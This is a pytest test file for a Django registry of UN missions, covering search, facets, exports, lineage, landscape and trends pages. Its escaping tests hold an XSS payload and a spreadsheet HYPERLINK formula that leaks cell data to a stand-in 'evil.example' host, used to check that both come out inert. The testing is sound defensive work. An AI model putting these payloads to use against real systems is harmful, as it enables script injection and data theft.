"""The analyst UI rendered on the server: what a reader sees on each page, without JavaScript."""

import csv
import html
import io
import re
from datetime import date

import pytest
from django.db import connection
from django.db.models.signals import post_init
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from missions.models import Cluster, Country, Mission, Transition
from missions.templatetags.registry import highlight
from tests.factories import MissionFactory, TransitionFactory

pytestmark = pytest.mark.usefixtures("seeded_db")


def text(response) -> str:
    return response.content.decode()


def result_acronyms(response) -> list[str]:
    return re.findall(r'class="result-acronym">(.*?)</a>', text(response))


def plain(html: str) -> str:
    return re.sub(r"<[^>]+>", "", html)


def heading_count(response) -> int:
    match = re.search(r'id="results-h"[^>]*>\s*(\d+) mission', text(response))
    assert match, "no result count on the page"
    return int(match.group(1))


# -- home ---------------------------------------------------------------------------------------


def test_home_shows_search_box_and_todays_figures_by_cluster(client):
    response = client.get("/")
    assert response.status_code == 200
    body = text(response)
    assert 'name="q"' in body and 'action="/search/"' in body
    spm_today = Mission.objects.spm().active_on(date.today()).count()
    assert f'<span class="value">{spm_today}</span>' in body
    for cluster in ("Special envoys", "Sanctions panels and monitoring groups"):
        assert cluster in body
    assert reverse("reports:trends") in body
    assert "/landscape/?as_of=2013-07-01" in body


# -- search -------------------------------------------------------------------------------------


def test_search_by_acronym_puts_that_mission_first(client):
    response = client.get("/search/", {"q": "UNIPSIL"})
    assert result_acronyms(response)[0] == "<mark>UNIPSIL</mark>"


def test_search_matches_names_and_highlights_the_words(client):
    response = client.get("/search/", {"q": "Sierra Leone"})
    acronyms = [plain(a) for a in result_acronyms(response)]
    assert {"UNIPSIL", "UNIOSIL", "UNAMSIL"} <= set(acronyms)
    assert "<mark>Sierra</mark> <mark>Leone</mark>" in text(response)


def test_search_matches_mandate_areas_and_document_symbols(client):
    by_area = client.get("/search/", {"q": "Electoral assistance"})
    assert "UNIPSIL" in [plain(a) for a in result_acronyms(by_area)]
    by_symbol = client.get("/search/", {"q": "S/RES/1829"})
    assert [plain(a) for a in result_acronyms(by_symbol)] == ["UNIPSIL"]


def test_search_without_match_says_so(client):
    response = client.get("/search/", {"q": "zzqxnotamission"})
    assert heading_count(response) == 0
    assert "No mission matches" in text(response)


def test_query_with_markup_and_quotes_is_shown_escaped(client):
    evil = "<script>alert('x')</script>\" onmouseover=\"x"
    response = client.get("/search/", {"q": evil})
    body = text(response)
    assert response.status_code == 200
    assert "<script>alert" not in body
    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;&quot; onmouseover=&quot;x" in body


def test_highlight_escapes_text_and_terms():
    from missions.templatetags.registry import highlight

    assert highlight("a <b>UN</b> & co", ["<b>", "un"]) == (
        "a <mark>&lt;b&gt;</mark><mark>UN</mark>&lt;/b&gt; &amp; co"
    )


def test_unknown_facet_value_is_ignored_with_a_visible_note(client):
    everything = heading_count(client.get("/search/"))
    response = client.get("/search/", {"cluster": ["nonsense", "envoy"], "kind": "<b>bad</b>"})
    assert response.status_code == 200
    body = text(response)
    assert "“nonsense” of Cluster is not known and was ignored" in body
    assert "“&lt;b&gt;bad&lt;/b&gt;” of Kind is not known" in body
    # The known value still applies.
    assert heading_count(response) == Mission.objects.in_cluster("envoy").count() < everything


def test_bad_date_for_the_filterset_is_a_note_not_an_error(client):
    response = client.get("/search/", {"active_on": "2013-13-45"})
    assert response.status_code == 200
    assert "of active_on is not known and was ignored" in text(response)


def test_facet_narrows_results_and_shows_counts(client):
    everything = heading_count(client.get("/search/"))
    response = client.get("/search/", {"cluster": "field_mission"})
    narrowed = heading_count(response)
    assert narrowed == Mission.objects.in_cluster("field_mission").count()
    assert 0 < narrowed < everything
    # The cluster facet counts every cluster as if it alone were chosen.
    envoys = Mission.objects.in_cluster("envoy").count()
    assert re.search(
        rf'value="envoy">\s*<label[^>]*>I\. Special envoys</label>'
        rf'\s*<span class="count"[^>]*>{envoys}<',
        text(response),
    )


def test_status_and_year_range_filter_by_the_registry_rules(client):
    closed = client.get("/search/", {"is_active": "false", "cluster": "field_mission"})
    assert "UNIOSIL" in [plain(a) for a in result_acronyms(closed)]
    in_2013 = client.get(
        "/search/", {"year_from": "2013", "year_to": "2013", "cluster": "field_mission"}
    )
    acronyms = [plain(a) for a in result_acronyms(in_2013)]
    assert "UNPOS" in acronyms  # closed on 3 June 2013: active at some time in 2013
    assert "UNIOSIL" not in acronyms  # closed in 2008


def test_sorting_by_start_date(client):
    response = client.get("/search/", {"cluster": "field_mission", "sort": "-start"})
    first, second = [plain(a) for a in result_acronyms(response)[:2]]
    a, b = Mission.objects.get(acronym=first), Mission.objects.get(acronym=second)
    assert a.start_date >= b.start_date
    dated = Mission.objects.in_cluster("field_mission").exclude(start_date=None)
    newest = dated.latest("start_date")
    assert a.start_date == newest.start_date


def test_results_are_paginated_and_pages_keep_the_filters(client):
    response = client.get("/search/", {"kind": "country"})
    assert len(result_acronyms(response)) == 25
    assert "?kind=country&amp;page=2" in text(response)
    page2 = client.get("/search/", {"kind": "country", "page": "2"})
    assert set(result_acronyms(page2)).isdisjoint(result_acronyms(response))


def test_highlighting_a_word_inside_an_entity_keeps_the_text_intact(
    client, django_capture_on_commit_callbacks
):
    # Committed, so that PostgreSQL computes the mission's search document.
    with django_capture_on_commit_callbacks(execute=True):
        MissionFactory(acronym="UNPSC", name="Peace & Security Office of the AMP")
    body = text(client.get("/search/", {"q": "amp"}))
    assert "Peace &amp; Security Office of the <mark>AMP</mark>" in body
    assert "&<mark>" not in body


def test_highlight_escapes_terms_and_text_and_marks_only_the_raw_matches():
    assert highlight("Peace & Security", ["amp"]) == "Peace &amp; Security"
    marked = highlight("<b>Bold</b> & <B>", ["<b>", "&"])
    assert marked == (
        "<mark>&lt;b&gt;</mark>Bold&lt;/b&gt; <mark>&amp;</mark> <mark>&lt;B&gt;</mark>"
    )
    assert highlight("UNIPSIL in UN", ["un", "unipsil"]) == (
        "<mark>UNIPSIL</mark> in <mark>UN</mark>"
    )
    assert highlight(None, ["x"]) == "" and highlight("<i>", []) == "&lt;i&gt;"


def test_search_and_facets_take_a_bounded_number_of_queries(client, django_assert_max_num_queries):
    with django_assert_max_num_queries(20):
        response = client.get(
            "/search/", {"q": "Sierra", "cluster": "field_mission", "region": "africa"}
        )
    assert response.status_code == 200
    with django_assert_max_num_queries(20):
        client.get("/search/")


def test_htmx_request_gets_the_results_fragment(client):
    response = client.get("/search/", {"q": "UNIPSIL"}, headers={"HX-Request": "true"})
    body = text(response)
    assert "<html" not in body and 'id="search-app"' in body
    assert "HX-Request" in response["Vary"]
    full = client.get("/search/", {"q": "UNIPSIL"})
    assert "<html" in text(full)


def page_rows(response) -> list[dict]:
    """Return what each result row of a search page shows, as plain text by column."""
    rows = []
    for row in re.findall(r"<tr>(.*?)</tr>", text(response).split("<tbody>")[1], re.S):
        cells = re.findall(r"<td[^>]*>(.*?)</td>", row, re.S)
        name = re.search(r'class="result-name">(.*?)</span>', cells[1], re.S).group(1)
        rows.append(
            {
                "href": re.search(r'href="([^"]+)"', cells[0]).group(1),
                "acronym": html.unescape(plain(cells[0])),
                "name": html.unescape(plain(name)),
                "cluster": html.unescape(plain(cells[2].split('<span class="badge">')[0])).strip(),
                "countries": html.unescape(plain(cells[3])),
                "period": " ".join(plain(cells[4]).split()),
            }
        )
    return rows


def expected_csv_row(shown: dict) -> list[str]:
    """Return the CSV row of a result as the page shows it (the rest from the record)."""
    mission = Mission.objects.get(acronym=shown["acronym"])
    clusters = {c.name: c.slug for c in Cluster.objects.all()}
    countries = {c.name: c.iso3 for c in Country.objects.all()}
    start, _dash, rest = shown["period"].partition(" – ")
    end, _space, badge = rest.partition(" ")
    return [
        shown["acronym"],
        shown["name"],
        clusters[shown["cluster"]],
        mission.kind,
        mission.category,
        mission.mandating_body,
        mission.region.name if mission.region else "",
        ";".join(countries[c] for c in shown["countries"].split(", ") if c != "—"),
        "" if start == "?" else start,
        "" if end in ("?", "present") else end,
        {"active": "active", "dates unknown": "unknown"}.get(badge, "closed"),
        f"http://testserver{shown['href']}",
    ]


def test_csv_download_has_the_rows_of_the_page_in_the_same_order(client):
    params = {"q": "Sierra Leone", "sort": "acronym"}
    page = page_rows(client.get("/search/", params))
    response = client.get(reverse("missions:mission_export", args=["csv"]), params)
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(text(response))))
    assert rows[0][:3] == ["Acronym", "Name", "Cluster"]
    assert rows[1:] == [expected_csv_row(shown) for shown in page]
    # UNCT-SLE has no mandating body and no dates: those cells stay empty.
    unct = next(row for row in rows if row[0] == "UNCT-SLE")
    assert unct[5] == unct[8] == unct[9] == ""
    # ... and its status is unknown, not closed: no source says it ended.
    assert unct[10] == "unknown"
    assert next(s for s in page if s["acronym"] == "UNCT-SLE")["period"] == "? – ? dates unknown"


@pytest.mark.parametrize(
    ("acronym", "badge"),
    [
        ("UNCT-SLE", "Dates unknown"),
        ("UNIOSIL", "Closed"),
        ("UNTAC", "Closed"),  # ended on a date no source gives
        ("UNAMA", "Active"),
    ],
)
def test_mission_page_never_calls_an_undated_presence_closed(client, acronym, badge):
    body = text(client.get(f"/missions/{acronym}/"))
    head = body.split('class="page-head"')[1].split("</header>")[0]
    badges = re.findall(r'<span class="badge[^"]*">([^<]+)</span>', head)
    assert badges[0] == badge


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def test_a_name_that_looks_like_a_formula_is_inert_in_both_downloads(client):
    MissionFactory(acronym="UNFORMULA", name=FORMULA, mandating_body="", end_date=None)
    params = {"q": "UNFORMULA"}
    response = client.get(reverse("missions:mission_export", args=["csv"]), params)
    (row,) = list(csv.reader(io.StringIO(text(response))))[1:]
    assert row[:2] == ["UNFORMULA", "'" + FORMULA]
    assert row[5] == row[9] == ""

    response = client.get(reverse("missions:mission_export", args=["xlsx"]), params)
    sheet = load_workbook(io.BytesIO(response.content)).active
    acronym, name = sheet["A2"], sheet["B2"]
    assert (acronym.value, name.value) == ("UNFORMULA", FORMULA)
    assert name.data_type == "s"
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert sheet["F2"].value is None and sheet["J2"].value is None


def test_xlsx_download_has_every_result_across_pages(client):
    response = client.get(reverse("missions:mission_export", args=["xlsx"]), {"kind": "country"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    acronyms = [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert len(acronyms) == Mission.objects.filter(kind="country").count() > 25


# -- mission page ---------------------------------------------------------------------------------


def test_mission_page_shows_summary_sources_and_lineage_in_order(client):
    response = client.get("/missions/UNIPSIL/")
    body = text(response)
    assert "United Nations Integrated Peacebuilding Office in Sierra Leone" in body
    assert "S/RES/1829 (2008)" in body and "digitallibrary.un.org" in body
    lineage = body[body.index('class="lineage"') :]
    lineage = lineage[: lineage.index("</ol>")]
    order = [lineage.index(a) for a in ("UNOMSIL", "UNAMSIL", "UNIOSIL", "UNIPSIL", "UNCT-SLE")]
    assert order == sorted(order)
    assert 'href="/missions/UNIOSIL/"' in lineage and 'aria-current="page">UNIPSIL' in lineage
    assert "2008-10-01" in lineage and "2014-03-31" in lineage


def test_mission_page_draws_the_timeline_of_mandates_and_areas(client):
    body = text(client.get("/missions/UNIPSIL/"))
    svg = body[body.index('<svg class="timeline"') : body.index("</svg>")]
    assert svg.count('class="mandate') == 2
    assert "Electoral assistance" in svg and "Human rights" in svg
    assert "S/RES/2097 (2013): 2013-03-26 – 2014-03-31" in svg
    assert "Michael von der Schulenburg" in body


def test_mission_lookup_is_case_insensitive_and_unknown_is_404(client):
    assert client.get("/missions/unipsil/").status_code == 200
    assert client.get("/missions/NOPE-XYZ/").status_code == 404


def test_mission_without_mandates_says_unknown_not_absent(client):
    body = text(client.get("/missions/UNCT-SLE/"))
    assert "unknown, not absent" in body


# -- country page ---------------------------------------------------------------------------------


def test_country_page_shows_every_presence_as_a_lineage(client):
    response = client.get("/countries/sle/")
    body = text(response)
    assert "UN presences in Sierra Leone" in body
    lineage = body[body.index('class="lineage"') :]
    order = [
        lineage.index(a)
        for a in ("SE-SIERRALEONE", "UNOMSIL", "UNAMSIL", "UNIOSIL", "UNIPSIL", "UNCT-SLE")
    ]
    assert order == sorted(order)
    assert client.get("/countries/XXX/").status_code == 404
    assert "Sierra Leone" in text(client.get("/countries/"))


def unrelated_transitions(count: int = 30) -> None:
    other = Country.objects.exclude(iso3="SLE").first()
    for index in range(count):
        TransitionFactory(country=other if index % 2 else None)


@pytest.mark.parametrize("path", ["/missions/UNIPSIL/", "/countries/SLE/"])
def test_lineage_reads_only_the_transitions_of_the_pages_lineages(client, path):
    loaded = []

    def count(sender, instance, **kwargs):
        loaded.append(instance.pk)

    def visit() -> tuple[str, int, int]:
        loaded.clear()
        with CaptureQueriesContext(connection) as queries:
            response = client.get(path)
        assert response.status_code == 200
        page = re.sub(r'name="csrfmiddlewaretoken" value="\w+"', "", text(response))
        return page, len(queries), len(loaded)

    post_init.connect(count, sender=Transition)
    try:
        before = visit()
        unrelated_transitions()
        after = visit()
    finally:
        post_init.disconnect(count, sender=Transition)
    assert after == before
    assert 0 < before[2] < Transition.objects.count() - 30


# -- landscape ------------------------------------------------------------------------------------


def test_landscape_on_1_july_2013_is_the_annex(client):
    body = text(client.get("/landscape/", {"as_of": "2013-07-01"}))
    assert '<span class="value" id="landscape-total">37</span>' in body
    for count, cluster in ((11, "I. Special envoys"), (15, "III. Field-based missions")):
        assert f'<span class="value">{count}</span><span class="label">{cluster}</span>' in body
    assert '<td>Security Council</td><td class="num">33</td>' in body
    assert '<td>General Assembly</td><td class="num">4</td>' in body
    assert 'href="/missions/UNAMA/"' in body


def test_landscape_with_a_bad_date_shows_today_and_a_note(client):
    response = client.get("/landscape/", {"as_of": "<x>2013-02-30"})
    assert response.status_code == 200
    assert "“&lt;x&gt;2013-02-30” is not a date" in text(response)


# -- trends ---------------------------------------------------------------------------------------


def trend_cell(body: str, year: int) -> list[str]:
    row = re.search(rf'<tr data-year="{year}">(.*?)</tr>', body, re.S).group(1)
    return [plain(cell).strip() for cell in re.findall(r"<t[dh][^>]*>(.*?)</t[dh]>", row, re.S)]


def test_trends_default_is_field_missions_beside_the_report(client):
    body = text(client.get("/trends/"))
    assert "Missions active in each year" in body
    assert trend_cell(body, 2013) == ["2013", "15", "15", "15"]
    assert trend_cell(body, 2000) == ["2000", "12", "12", "12"]
    assert trend_cell(body, 1993)[-1] == "3"
    assert 'id="computed-at"' in body
    assert 'id="trend-data"' in body and "vendor/chartjs/chart.umd.min.js" in body


def test_trends_reference_rule_changes_the_count(client):
    body = text(client.get("/trends/", {"cluster": "field_mission", "reference": "any"}))
    assert trend_cell(body, 2013)[1] == "16"  # UNPOS closed in June 2013


def test_trends_mean_mandate_areas_shows_n(client):
    body = text(
        client.get("/trends/", {"metric": "mean_mandate_areas", "cluster": "field_mission"})
    )
    year, value, n, report = trend_cell(body, 2013)
    assert (value, n, report) == ("6.4", "15", "roughly 6")


def test_trends_csv_matches_the_table(client):
    params = {"cluster": "field_mission", "start": "2000", "end": "2013"}
    response = client.get(reverse("reports:trends_csv"), params)
    rows = [r for r in csv.reader(io.StringIO(text(response))) if r and not r[0].startswith("#")]
    assert rows[0] == ["year", "series", "value", "n", "report_figure"]
    assert ["2013", "Registry", "15", "15", "15"] in rows
    assert len(rows) == 1 + 14


def test_trends_bad_parameters_are_notes_not_errors(client):
    response = client.get("/trends/", {"metric": "nope", "cluster": "<b>", "start": "abc"})
    assert response.status_code == 200
    body = text(response)
    assert "The metric “nope” is not known" in body
    assert "“&lt;b&gt;” of cluster was ignored" in body
    assert "“abc” of start was ignored" in body


# -- languages -------------------------------------------------------------------------------------


def test_pages_speak_french_when_asked(client):
    body = text(client.get("/missions/UNIPSIL/", headers={"accept-language": "fr"}))
    assert '<html lang="fr"' in body
    assert "Lignée des présences des Nations Unies" in body
    assert "Conseil de sécurité" in body  # a vocabulary label, translated too
    search = text(client.get("/search/", {"q": "Sierra"}, headers={"accept-language": "fr"}))
    assert "correspondent à « Sierra »" in search


def test_language_switcher_posts_to_set_language_and_returns_here(client):
    body = text(client.get("/trends/?metric=closed"))
    assert 'action="/i18n/setlang/"' in body
    assert 'name="next" type="hidden" value="/trends/?metric=closed"' in body
    response = client.post("/i18n/setlang/", {"language": "fr", "next": "/trends/?metric=closed"})
    assert response.status_code == 302 and response["Location"] == "/trends/?metric=closed"
    assert "Tendances" in text(client.get("/trends/"))


def test_home_figures_link_to_the_matching_search(client):
    body = text(client.get("/"))
    link = re.search(r'href="(/search/\?cluster=envoy&amp;is_active=true)"', body).group(1)
    response = client.get(link.replace("&amp;", "&"))
    assert heading_count(response) == Mission.objects.in_cluster("envoy").current().count()
    assert "is not known" not in text(response)


def test_a_very_long_query_is_cut_not_ignored(client):
    response = client.get("/search/", {"q": "UNIPSIL " + "x" * 500})
    assert response.status_code == 200
    assert "missions match" in text(response) or "mission matches" in text(response)
    assert "UNIPSIL " + "x" * 192 + "”" in text(response)


@pytest.mark.parametrize("q", ["the", "'", "&|!():*", '"unclosed', "-", "S/RES/", "%_%"])
def test_odd_queries_answer_without_error(client, q):
    response = client.get("/search/", {"q": q})
    assert response.status_code == 200
    assert re.search(r'id="results-h"[^>]*>\s*\d+ mission', text(response))


def test_control_characters_in_stored_text_do_not_break_the_excel_download(client):
    import io

    from openpyxl import load_workbook

    from tests.factories import MissionFactory

    MissionFactory(acronym="UNCTRL", name="Office\x01 with a control\x0b character")
    response = client.get("/search/download.xlsx", {"q": "UNCTRL"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    names = [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert "Office with a control character" in names


@pytest.mark.parametrize(
    "query",
    [
        {},
        {"cluster": "field_mission", "region": "africa"},
        {"q": "Sierra Leone", "kind": "country"},
        # Filters that join rows of other tables, and every one-valued facet chosen but one.
        {"country": "SLE", "mandate_area": "human-rights", "is_active": "false"},
        {"cluster": "field_mission", "kind": "country", "region": "africa", "is_active": "false"},
        {  # every facet chosen: each counts on its own
            "cluster": "field_mission",
            "kind": "country",
            "region": "africa",
            "mandating_body": "security_council",
            "is_active": "false",
            "country": "SLE",
            "mandate_area": "human-rights",
        },
    ],
)
def test_every_facet_count_equals_a_count_of_the_missions_themselves(query):
    """Each facet counts the missions that every other chosen filter leaves, by its own value."""
    from django.http import QueryDict
    from django.utils import timezone

    from missions.views import run_search

    params = QueryDict(mutable=True)
    params.update(query)
    result = run_search(params)
    facets = {f["name"]: f for f in result["facets"]}
    today = timezone.localdate()
    missions = list(
        Mission.objects.select_related("cluster", "region").prefetch_related(
            "host_countries", "mandates__mandate_areas"
        )
    )
    text_hits = (
        {m.pk for m in run_search(QueryDict(f"q={query['q']}"), paginate=False)["missions"]}
        if "q" in query
        else {m.pk for m in missions}
    )
    values = {
        "cluster": lambda m: {m.cluster.slug},
        "kind": lambda m: {m.kind},
        "region": lambda m: {m.region.slug} if m.region else set(),
        # A mission whose mandating body no source gives is in no value of that facet.
        "mandating_body": lambda m: {m.mandating_body} - {""},
        "country": lambda m: {c.iso3 for c in m.host_countries.all()},
        "mandate_area": lambda m: {
            a.slug for mandate in m.mandates.all() for a in mandate.mandate_areas.all()
        },
        "is_active": lambda m: {"true" if m.is_active_on(today) else "false"},
    }
    for name, facet in facets.items():
        others = {k: v for k, v in query.items() if k not in ("q", name)}
        kept = [
            m
            for m in missions
            if m.pk in text_hits and all(v in values[k](m) for k, v in others.items())
        ]
        expected = {}
        for mission in kept:
            for value in values[name](mission):
                expected[value] = expected.get(value, 0) + 1
        shown = {v["value"]: v["count"] for v in facet["values"] if v["count"]}
        assert shown == expected, name
    # The total is that of the missions every filter leaves.
    everything = {k: v for k, v in query.items() if k != "q"}
    assert result["count"] == len(
        [
            m
            for m in missions
            if m.pk in text_hits and all(v in values[k](m) for k, v in everything.items())
        ]
    )


def test_a_long_result_list_links_the_ends_and_the_pages_near_this_one():
    from django.test import Client

    cluster = Cluster.objects.get(slug="envoy")
    Mission.objects.bulk_create(
        Mission(acronym=f"UNXP{n:03d}", name=f"Paged mission {n}", cluster=cluster, kind="thematic")
        for n in range(400)
    )
    response = Client().get("/search/", {"q": "UNXP", "page": "8"})
    pages = re.findall(r'<li><(?:a href="[^"]*"|span aria-current="page")>(\d+)<', text(response))
    assert pages == ["1", "2", "6", "7", "8", "9", "10", "15", "16"]
    assert text(response).count('class="ellipsis"') == 2


def test_a_mission_deleted_while_a_page_is_read_drops_out_of_it(client):
    """The page's ids and its rows are two queries: a deletion between them is no error."""
    from unittest import mock

    from django.db.models import QuerySet

    shown = result_acronyms(client.get("/search/", {"kind": "country"}))
    real = QuerySet.in_bulk

    def after_a_deletion(queryset, ids, **kwargs):
        Mission.objects.filter(pk=ids[0]).delete()
        return real(queryset, ids, **kwargs)

    with mock.patch.object(QuerySet, "in_bulk", after_a_deletion):
        response = client.get("/search/", {"kind": "country"})
    assert response.status_code == 200
    assert result_acronyms(response) == shown[1:]
